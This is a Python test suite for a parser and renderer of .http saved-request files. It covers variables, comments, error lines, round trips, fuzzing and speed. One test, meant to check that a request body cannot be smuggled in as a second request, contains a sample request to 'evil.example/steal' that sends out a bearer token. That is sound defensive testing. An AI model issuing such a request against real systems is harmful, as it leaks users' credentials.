"""The .http saved-request format: parse, render, variables, errors, round trip, garbage."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.core.formats.errors import FormatError
from app.core.formats.http_file import HttpFile, HttpFileRequest, expand, parse_http_file, render_http_file, unresolved
from tests.timing import best_of_three

SAMPLE = """\
@host = https://api.example.com
@token = abc123
# a comment before anything

### List orders
GET {{host}}/orders?page=1 HTTP/1.1
    &sort=desc
Authorization: Bearer {{token}}
// header comment
Accept: application/json

###
# @name createOrder
POST {{host}}/orders
Content-Type: application/json

{
  "sku": "A-1",

  "qty": 2
}


### just a URL
{{host}}/health
"""


def test_sample() -> None:
    f = parse_http_file(SAMPLE)
    assert f.variables == {"host": "https://api.example.com", "token": "abc123"}
    a, b, c = f.requests
    assert a == HttpFileRequest("List orders", "GET", "{{host}}/orders?page=1&sort=desc",
                                (("Authorization", "Bearer {{token}}"), ("Accept", "application/json")), None)
    assert b.name == "createOrder" and b.method == "POST"
    assert b.body == '{\n  "sku": "A-1",\n\n  "qty": 2\n}'
    assert c == HttpFileRequest("just a URL", "GET", "{{host}}/health")


def test_crlf_and_bom() -> None:
    f = parse_http_file("\ufeffGET https://h/x\r\nA: 1\r\n\r\nbody\r\n")
    assert f.requests == (HttpFileRequest(None, "GET", "https://h/x", (("A", "1"),), "body"),)


def test_render_then_parse() -> None:
    f = parse_http_file(SAMPLE)
    assert parse_http_file(render_http_file(f)) == f


def test_expand_and_unresolved() -> None:
    v = {"host": "https://h", "base": "{{host}}/v1", "id": "7"}
    assert expand("{{base}}/items/{{ id }}?k={{key}}", v) == "https://h/v1/items/7?k={{key}}"
    assert unresolved("{{base}}/{{key}}/{{$guid}}/{{key}}", v) == ["key", "$guid"]
    assert expand("{{a}}", {"a": "{{a}}"}) == "{{a}}"  # self-reference terminates


@pytest.mark.parametrize("text, line", [
    ("GET https://h/x\nnot a header\n", 2),
    ("###\nGET a b c d\n", 2),
])
def test_errors_name_the_line(text: str, line: int) -> None:
    with pytest.raises(FormatError) as info:
        parse_http_file(text)
    assert info.value.line == line and f"Line {line}" in str(info.value)


def test_empty_file() -> None:
    assert parse_http_file("") == HttpFile({}, ())


# ---------------------------------------------------------------- properties

_line = st.text(st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")), min_size=1, max_size=20)
_body = st.lists(_line.filter(lambda s: not s.startswith("###")), min_size=1, max_size=4).map("\n".join).filter(
    lambda b: b.split("\n")[0].strip() != "" and b.split("\n")[-1].strip() != "")


@st.composite
def http_files(draw: st.DrawFn) -> HttpFile:
    variables = draw(st.dictionaries(st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,8}", fullmatch=True),
                                     _line.map(str.strip), max_size=3))
    reqs = []
    for _ in range(draw(st.integers(0, 3))):
        name = draw(st.one_of(st.none(), _line.map(str.strip).filter(bool)))
        method = draw(st.sampled_from(["GET", "POST", "PUT", "DELETE", "PATCH"]))
        url = draw(st.from_regex(r"(https://|\{\{host\}\}/)[A-Za-z0-9/?=&{}._-]{0,20}", fullmatch=True))
        headers = tuple(draw(st.lists(st.tuples(st.from_regex(r"[A-Za-z][A-Za-z0-9-]{0,10}", fullmatch=True),
                                                _line.map(str.strip)), max_size=3)))
        body = draw(st.one_of(st.none(), _body))
        reqs.append(HttpFileRequest(name, method, url, headers, body))
    return HttpFile(variables, tuple(reqs))


@settings(max_examples=200, deadline=None)
@given(http_files())
def test_round_trip(f: HttpFile) -> None:
    assert parse_http_file(render_http_file(f)) == f


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=200),
                 st.lists(st.sampled_from(["###", "### x", "@a = 1", "GET", " https://h", "\n", "A: b", "# @name n",
                                           "//", "{{x}}", "\r\n", "    &q=1", ":", "POST a b", "/*", "*/", "< {%",
                                           "> {%", "%}", "{{", "}}", "> a.js", ">> out", "# @body-suffix \"\\r",
                                           "# @body-escaped", "    /p", " HTTP/1.1"]),
                          max_size=15).map("".join)))
def test_garbage_raises_only_format_error(text: str) -> None:
    try:
        parse_http_file(text)
    except FormatError:
        pass


# ---------------------------------------------------------------- as JetBrains and httpyac write them

FIX = Path(__file__).parent / "fixtures"


def test_jetbrains_and_httpyac_file_loads_every_readable_request():
    f = parse_http_file((FIX / "jetbrains_httpyac.http").read_text())
    assert [(r.name, r.method) for r in f.requests] == [
        ("Log in", "POST"), ("Search, query written over several lines", "GET"),
        ("Still loads after the broken block", "DELETE"), ("httpyac handler after the body", "POST")]
    login, search, delete, notes_req = f.requests
    assert login.body == '{"user": "ann", "nonce": "{{nonce}}"}'  # the handler is not body
    assert login.headers == (("Content-Type", "application/json"),)
    assert login.pre_scripts == ('< {%\n    request.variables.set("nonce", $random.uuid);\n%}',)
    assert login.handlers[0].startswith("> {%") and login.handlers[0].endswith("%}")
    assert search.url == "{{host}}/orders/search?status=open&page=2" and search.body is None
    assert search.handlers == ("> ./check-search.js",)
    assert delete.body is None  # a trailing comment is not a body
    assert notes_req.body == "remember the milk" and notes_req.handlers[0].startswith("{{@response")
    assert f.variables == {"host": "https://api.example.com"}


def test_notes_name_the_skipped_block_and_the_scripts_not_run():
    notes = parse_http_file((FIX / "jetbrains_httpyac.http").read_text()).notes
    assert any(n.startswith("Skipped the request at line 39:") and "Line 40 should be a header" in n for n in notes)
    assert any("line 7" in n.lower() and "not run" in n for n in notes)  # the global {{ }} script
    assert sum("kept in the file, but not run" in n for n in notes) == 3


def test_scripts_are_written_back_with_their_request():
    f = parse_http_file((FIX / "jetbrains_httpyac.http").read_text())
    again = parse_http_file(render_http_file(f))
    assert again == f


def test_block_comments_and_comments_anywhere_outside_the_body():
    f = parse_http_file("/* a\n### not a separator? it is: ### at the start */\nGET https://h/x\n/* one line */\n"
                        "// c\nA: 1\n\nbody\n# end comment\n")
    assert [r.url for r in f.requests] == ["https://h/x"]
    assert f.requests[0].headers == (("A", "1"),) and f.requests[0].body == "body"


def test_a_body_with_carriage_returns_and_a_trailing_newline_round_trips():
    body = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--b--\r\n"
    f = HttpFile({}, (HttpFileRequest("up", "POST", "https://h/up", (("Content-Type", "multipart/form-data; boundary=b"),),
                                      body),))
    assert parse_http_file(render_http_file(f)).requests[0].body == body


def test_a_body_that_reads_as_structure_is_escaped_not_a_second_request():
    body = 'line one\n###\nGET https://evil.example/steal?t={{token}}\n> {% client.global.set("x", 1) %}\n{{\n}}'
    f = HttpFile({}, (HttpFileRequest("one", "POST", "https://h/x", (), body),))
    text = render_http_file(f)
    assert "# @body-escaped" in text and "\n###\n" not in text
    back = parse_http_file(text)
    assert len(back.requests) == 1 and back.requests[0].body == body


_any_body = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=60).filter(
    lambda b: b.strip() != "" and not b.startswith(("\n", "\r", " ", "\t")))


@settings(max_examples=300, deadline=None)
@given(_any_body)
def test_any_body_round_trips_exactly(body: str) -> None:
    f = HttpFile({}, (HttpFileRequest("r", "POST", "https://h/x", (("A", "b"),), body),))
    assert parse_http_file(render_http_file(f)).requests == f.requests


def test_reading_is_linear_in_the_number_of_blocks():
    def cost(n: int) -> float:
        text = "### r\n< {%\nx\n%}\nGET https://h/x\n/* c */\nA: b\n\nbody\n> {%\ny\n%}\n" * n
        assert len(parse_http_file(text).requests) == n
        return best_of_three(lambda: len(parse_http_file(text).requests))

    small, large = cost(500), cost(4000)
    assert large < small * 8 * 3 + 0.05
